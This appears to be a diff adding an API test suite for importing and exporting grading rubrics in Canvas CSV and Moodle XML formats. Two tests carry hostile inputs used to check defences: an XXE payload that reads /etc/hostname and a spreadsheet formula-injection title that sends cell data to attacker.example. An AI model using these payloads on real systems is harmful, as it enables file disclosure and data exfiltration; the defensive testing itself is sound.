@@ -1,0 +1,420 @@
+import { readFileSync } from "node:fs";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { buildTestApp, scienceRubric, type TestApp } from "../helpers/test-app.js";
+import { interchangeFixture } from "../helpers/interchange-fixtures.js";
+
+let test: TestApp;
+beforeEach(async () => {
+  test = await buildTestApp();
+});
+afterEach(() => test.close());
+
+const question = encodeURIComponent("Explain what the rubric assesses.");
+
+function multipart(fieldName: string, filename: string, content: Buffer) {
+  const boundary = "----rubric-interchange-test-boundary";
+  const payload = Buffer.concat([
+    Buffer.from(
+      `--${boundary}\r\nContent-Disposition: form-data; name="${fieldName}"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
+    ),
+    content,
+    Buffer.from(`\r\n--${boundary}--\r\n`),
+  ]);
+  return { payload, headers: { "content-type": `multipart/form-data; boundary=${boundary}` } };
+}
+
+function importRequest(query: string, contentType: string, payload: string | Buffer) {
+  return test.app.inject({
+    method: "POST",
+    url: `/v1/rubrics/import?${query}`,
+    headers: { "content-type": contentType },
+    payload,
+  });
+}
+
+describe("POST /v1/rubrics/import", () => {
+  it("imports a Canvas CSV as the raw body: 201 with the stored rubric and its warnings, 200 when unchanged", async () => {
+    const file = interchangeFixture("canvas/import-template.csv");
+    const created = await importRequest(
+      `format=canvas-csv&id=canvas-template&question=${question}`,
+      "text/csv",
+      file,
+    );
+    expect(created.statusCode).toBe(201);
+    const body = created.json();
+    expect(body).toMatchObject({
+      id: "canvas-template",
+      title: "Rubric 1",
+      language: "en",
+      maxPoints: 3,
+      criteria: [
+        { id: "criteria-1", maxPoints: 2 },
+        { id: "criteria-2", maxPoints: 1 },
+      ],
+    });
+    expect(body.version).toMatch(/^[0-9a-f]{16}$/);
+    expect(body.warnings).toEqual([
+      { path: 'row 3 rating 2 "Criteria 2 Rating 2"', message: expect.stringContaining("merged") },
+    ]);
+
+    const stored = await test.app.inject({ method: "GET", url: "/v1/rubrics/canvas-template" });
+    expect(stored.json()).toMatchObject({ title: "Rubric 1", version: body.version });
+
+    const again = await importRequest(
+      `format=canvas-csv&id=canvas-template&question=${question}`,
+      "text/csv",
+      file,
+    );
+    expect(again.statusCode).toBe(200);
+    expect(again.json().version).toBe(body.version);
+  });
+
+  it("imports a Moodle marking guide from a multipart file, with title and language from the query", async () => {
+    const upload = multipart("file", "grading.xml", interchangeFixture("moodle/edit-guide.grading.xml"));
+    const response = await test.app.inject({
+      method: "POST",
+      url: `/v1/rubrics/import?format=moodle-guide&id=guide-a&question=${question}&title=Report&language=en-GB`,
+      ...upload,
+    });
+    expect(response.statusCode).toBe(201);
+    expect(response.json()).toMatchObject({
+      id: "guide-a",
+      title: "Report",
+      language: "en-GB",
+      maxPoints: 100,
+    });
+    expect(response.json().warnings.map((warning: { path: string }) => warning.path)).toContain(
+      "guidecomments",
+    );
+  });
+
+  it("imports a Moodle rubric sent as application/xml", async () => {
+    const response = await importRequest(
+      `format=moodle-rubric&id=moodle-a&question=${question}`,
+      "application/xml",
+      interchangeFixture("moodle/edit-rubric.grading.xml"),
+    );
+    expect(response.statusCode).toBe(201);
+    expect(response.json()).toMatchObject({ title: "Assignment 1 rubric", maxPoints: 100 });
+  });
+
+  it.each([
+    ["question, when missing", "format=canvas-csv&id=x", "querystring.question", "is required"],
+    ["id, when missing", `format=canvas-csv&question=${question}`, "querystring.id", "is required"],
+    [
+      "format, when missing",
+      `id=x&question=${question}`,
+      "querystring.format",
+      expect.stringContaining('"canvas-csv"'),
+    ],
+    [
+      "id, when it is not a slug",
+      `format=canvas-csv&id=Lab%20Report&question=${question}`,
+      "querystring.id",
+      expect.stringContaining("slug"),
+    ],
+    [
+      "language, when it is not a tag",
+      `format=canvas-csv&id=x&question=${question}&language=en_US`,
+      "querystring.language",
+      expect.stringContaining("BCP 47"),
+    ],
+  ])("answers 400 naming the option %s", async (_name, query, path, message) => {
+    const response = await importRequest(query, "text/csv", interchangeFixture("canvas/import-template.csv"));
+    expect(response.statusCode).toBe(400);
+    expect(response.json().error).toMatchObject({ code: "invalid_request", details: [{ path, message }] });
+  });
+
+  it("answers 400 naming rubricName when the file holds several rubrics, and for an unknown parameter", async () => {
+    const file = interchangeFixture("canvas/spec-multiple-rubrics.csv");
+    const several = await importRequest(`format=canvas-csv&id=x&question=${question}`, "text/csv", file);
+    expect(several.statusCode).toBe(400);
+    expect(several.json().error).toMatchObject({
+      code: "invalid_request",
+      details: [
+        { path: "querystring.rubricName", message: expect.stringContaining('"Rubric 1", "Rubric 2"') },
+      ],
+    });
+    const chosen = await importRequest(
+      `format=canvas-csv&id=x&question=${question}&rubricName=Rubric%202`,
+      "text/csv",
+      file,
+    );
+    expect(chosen.statusCode).toBe(201);
+
+    const unknown = await importRequest(
+      `format=canvas-csv&id=x&question=${question}&rubric=1`,
+      "text/csv",
+      file,
+    );
+    expect(unknown.statusCode).toBe(400);
+    expect(unknown.json().error.details[0].path).toBe("querystring.rubric");
+  });
+
+  it("answers 400 naming the option when the file has no rubric name and no title is given", async () => {
+    const response = await importRequest(
+      `format=canvas-csv&id=x&question=${question}`,
+      "text/csv",
+      "Criteria Name,Rating Name,Rating Points\nC,Good,1\n",
+    );
+    expect(response.statusCode).toBe(400);
+    expect(response.json().error.details).toEqual([
+      {
+        path: "querystring.title",
+        message: "is required: the file gives the rubric no name; give it a title",
+      },
+    ]);
+  });
+
+  it("answers 400 invalid_rubric with the line for malformed CSV, naming the row for a bad cell", async () => {
+    const header = "Rubric Name,Criteria Name,Rating Name,Rating Points";
+    const malformed = await importRequest(
+      `format=canvas-csv&id=x&question=${question}`,
+      "text/csv",
+      `${header}\nR,"C,Good,1\n`,
+    );
+    expect(malformed.statusCode).toBe(400);
+    expect(malformed.json().error).toMatchObject({
+      code: "invalid_rubric",
+      details: [
+        { path: "file", line: 2, message: expect.stringMatching(/^is not valid CSV \(Quote Not Closed/) },
+      ],
+    });
+
+    const badPoints = await importRequest(
+      `format=canvas-csv&id=x&question=${question}`,
+      "text/csv",
+      `${header}\nR,C,Good,1\nR,D,Fair,many\n`,
+    );
+    expect(badPoints.json().error).toMatchObject({
+      code: "invalid_rubric",
+      details: [{ path: "file", line: 3, message: 'row 3, rating "Fair": points "many" is not a number' }],
+    });
+    expect(badPoints.json().error.message).toContain("(line 3)");
+  });
+
+  it("answers 400 invalid_rubric for what the rubric format refuses, at the criterion's row", async () => {
+    const ratings = Array.from({ length: 13 }, (_, index) => `Level ${index},,${index}`).join(",");
+    const header = `Rubric Name,Criteria Name,${Array.from({ length: 13 }, () => "Rating Name,Rating Description,Rating Points").join(",")}`;
+    const response = await importRequest(
+      `format=canvas-csv&id=x&question=${question}`,
+      "text/csv",
+      `${header}\nR,Fine,A,,1\nR,Too many,${ratings}\n`,
+    );
+    expect(response.statusCode).toBe(400);
+    expect(response.json().error).toMatchObject({
+      code: "invalid_rubric",
+      details: [expect.objectContaining({ path: "criteria[1].levels", line: 3 })],
+    });
+  });
+
+  it("refuses negative Moodle levels and XML with a DOCTYPE (XXE) with 400 invalid_rubric and the line", async () => {
+    const negative = await importRequest(
+      `format=moodle-rubric&id=x&question=${question}`,
+      "application/xml",
+      interchangeFixture("moodle/negative-points.grading.xml"),
+    );
+    expect(negative.statusCode).toBe(400);
+    expect(negative.json().error).toMatchObject({
+      code: "invalid_rubric",
+      details: [{ path: "criterion[id=1].level[id=1].score", line: 27 }],
+    });
+
+    const xxe = `<?xml version="1.0"?>\n<!DOCTYPE areas [<!ENTITY e SYSTEM "file:///etc/hostname">]>\n<areas>&e;</areas>`;
+    const refused = await importRequest(`format=moodle-rubric&id=x&question=${question}`, "text/xml", xxe);
+    expect(refused.statusCode).toBe(400);
+    expect(refused.json().error).toMatchObject({
+      code: "invalid_rubric",
+      details: [{ path: "file", line: 2 }],
+    });
+    expect(refused.json().error.details[0].message).toContain("DOCTYPE declaration, which is refused");
+  });
+
+  it("refuses a character reference to a character XML does not allow (a lone surrogate), with its line", async () => {
+    const xml = interchangeFixture("moodle/edit-rubric.grading.xml")
+      .toString("utf8")
+      .replace("<definition>Level 11</definition>", "<definition>Level &#xD800;11</definition>");
+    const response = await importRequest(
+      `format=moodle-rubric&id=x&question=${question}`,
+      "application/xml",
+      xml,
+    );
+    expect(response.statusCode).toBe(400);
+    expect(response.json().error).toMatchObject({
+      code: "invalid_rubric",
+      details: [{ path: "file", line: 29, message: expect.stringContaining("&#xD800;") }],
+    });
+  });
+
+  it("answers 415 for other media types and 400 for an empty body or a multipart body without `file`", async () => {
+    const json = await importRequest(`format=canvas-csv&id=x&question=${question}`, "application/json", "{}");
+    expect(json.statusCode).toBe(415);
+    const empty = await test.app.inject({
+      method: "POST",
+      url: `/v1/rubrics/import?format=canvas-csv&id=x&question=${question}`,
+      headers: { "content-type": "text/csv" },
+    });
+    expect(empty.statusCode).toBe(400);
+    expect(empty.json().error.details).toEqual([{ path: "body", message: "is required" }]);
+    const wrongField = await test.app.inject({
+      method: "POST",
+      url: `/v1/rubrics/import?format=canvas-csv&id=x&question=${question}`,
+      ...multipart("rubric", "r.csv", interchangeFixture("canvas/import-template.csv")),
+    });
+    expect(wrongField.statusCode).toBe(400);
+    expect(wrongField.json().error.details).toEqual([{ path: "file", message: "is required" }]);
+  });
+
+  it("answers 413 for a file over 1 MiB", async () => {
+    const response = await importRequest(
+      `format=canvas-csv&id=x&question=${question}`,
+      "text/csv",
+      Buffer.alloc(1024 * 1024 + 10, 0x61),
+    );
+    expect(response.statusCode).toBe(413);
+  });
+});
+
+describe("GET /v1/rubrics/:id/export", () => {
+  it("answers the Canvas CSV as an attachment, with the warnings in headers; importing it back gives the same criteria", async () => {
+    await test.app.inject({ method: "POST", url: "/v1/rubrics", payload: scienceRubric });
+    const response = await test.app.inject({
+      method: "GET",
+      url: "/v1/rubrics/photosynthesis-basics/export?format=canvas-csv",
+    });
+    expect(response.statusCode).toBe(200);
+    expect(response.headers["content-type"]).toBe("text/csv; charset=utf-8");
+    expect(response.headers["content-disposition"]).toBe('attachment; filename="photosynthesis-basics.csv"');
+    const warnings = JSON.parse(response.headers["x-rubric-export-warnings"] as string);
+    expect(Number(response.headers["x-rubric-export-warning-count"])).toBe(warnings.length);
+    expect(warnings.map((warning: { path: string }) => warning.path)).toEqual([
+      "id",
+      "question",
+      "language",
+      "referenceAnswer",
+      "criteria[1]",
+    ]);
+    expect(response.body.split("\n")[0]).toBe(
+      "Rubric Name,Criteria Name,Criteria Description,Criteria Enable Range,Rating Name,Rating Description,Rating Points,Rating Name,Rating Description,Rating Points",
+    );
+
+    // Not the same version (the reference answer stays behind), but the same criteria and points.
+    const back = await importRequest(
+      `format=canvas-csv&id=from-canvas&question=${question}`,
+      "text/csv",
+      response.body,
+    );
+    expect(back.statusCode).toBe(201);
+    expect(back.json().criteria).toEqual(scienceRubric.criteria);
+  });
+
+  it("writes a title a spreadsheet would run as a formula with a leading apostrophe, and says so", async () => {
+    const formula = '=HYPERLINK("https://attacker.example/?"&B2,"Open")';
+    await test.app.inject({
+      method: "POST",
+      url: "/v1/rubrics",
+      payload: { ...scienceRubric, title: formula },
+    });
+    const response = await test.app.inject({
+      method: "GET",
+      url: "/v1/rubrics/photosynthesis-basics/export?format=canvas-csv",
+    });
+    expect(response.statusCode).toBe(200);
+    expect(response.body.split("\n")[1]!.startsWith(`"'=HYPERLINK(`)).toBe(true);
+    const warnings = JSON.parse(response.headers["x-rubric-export-warnings"] as string);
+    expect(warnings).toContainEqual({
+      path: "title",
+      message: expect.stringContaining("leading apostrophe"),
+    });
+
+    const back = await importRequest(
+      `format=canvas-csv&id=guarded&question=${question}`,
+      "text/csv",
+      response.body,
+    );
+    expect(back.statusCode).toBe(201);
+    expect(back.json().title).toBe(formula);
+  });
+
+  it("answers the Moodle formats as XML, for an older version too", async () => {
+    const first = (
+      await test.app.inject({ method: "POST", url: "/v1/rubrics", payload: scienceRubric })
+    ).json();
+    await test.app.inject({
+      method: "POST",
+      url: "/v1/rubrics",
+      payload: { ...scienceRubric, title: "Revised" },
+    });
+    const rubric = await test.app.inject({
+      method: "GET",
+      url: `/v1/rubrics/photosynthesis-basics/export?format=moodle-rubric&version=${first.version}`,
+    });
+    expect(rubric.statusCode).toBe(200);
+    expect(rubric.headers["content-type"]).toBe("application/xml; charset=utf-8");
+    expect(rubric.headers["content-disposition"]).toBe(
+      'attachment; filename="photosynthesis-basics.moodle-rubric.xml"',
+    );
+    expect(rubric.body).toContain("<name>Photosynthesis basics</name>");
+    const guide = await test.app.inject({
+      method: "GET",
+      url: "/v1/rubrics/photosynthesis-basics/export?format=moodle-guide",
+    });
+    expect(guide.body).toContain("<name>Revised</name>");
+    expect(guide.body).toContain("<plugin_gradingform_guide_definition>");
+  });
+
+  it("writes warnings about non-ASCII text as ASCII JSON, and the file itself in UTF-8", async () => {
+    const persian = readFileSync(new URL("../../rubrics/fa-water-cycle.yaml", import.meta.url), "utf8");
+    const uploaded = await test.app.inject({
+      method: "POST",
+      url: "/v1/rubrics",
+      headers: { "content-type": "application/yaml" },
+      payload: persian,
+    });
+    const { id, title } = uploaded.json();
+    const response = await test.app.inject({
+      method: "GET",
+      url: `/v1/rubrics/${id}/export?format=canvas-csv`,
+    });
+    const header = response.headers["x-rubric-export-warnings"] as string;
+    expect(header).toMatch(/^[\x20-\x7e]*$/);
+    expect(
+      JSON.parse(header).some((warning: { message: string }) => warning.message.includes("criterion-1")),
+    ).toBe(true);
+    expect(response.body).toContain(title);
+  });
+
+  it("answers 404 for an unknown rubric or version, 400 for an unknown format or what a format cannot express", async () => {
+    expect(
+      (await test.app.inject({ method: "GET", url: "/v1/rubrics/nope/export?format=canvas-csv" })).statusCode,
+    ).toBe(404);
+    await test.app.inject({ method: "POST", url: "/v1/rubrics", payload: scienceRubric });
+    const version = await test.app.inject({
+      method: "GET",
+      url: "/v1/rubrics/photosynthesis-basics/export?format=canvas-csv&version=0000",
+    });
+    expect(version.statusCode).toBe(404);
+    const format = await test.app.inject({
+      method: "GET",
+      url: "/v1/rubrics/photosynthesis-basics/export?format=blackboard",
+    });
+    expect(format.statusCode).toBe(400);
+    expect(format.json().error.details[0].path).toBe("querystring.format");
+
+    const wide = {
+      ...scienceRubric,
+      id: "wide",
+      criteria: [{ ...scienceRubric.criteria[1], maxPoints: 40 }],
+    };
+    await test.app.inject({ method: "POST", url: "/v1/rubrics", payload: wide });
+    const cannot = await test.app.inject({
+      method: "GET",
+      url: "/v1/rubrics/wide/export?format=moodle-rubric",
+    });
+    expect(cannot.statusCode).toBe(400);
+    expect(cannot.json().error).toMatchObject({
+      code: "invalid_request",
+      details: [{ path: "criteria[0]", message: expect.stringContaining("format=moodle-guide") }],
+    });
+  });
+});
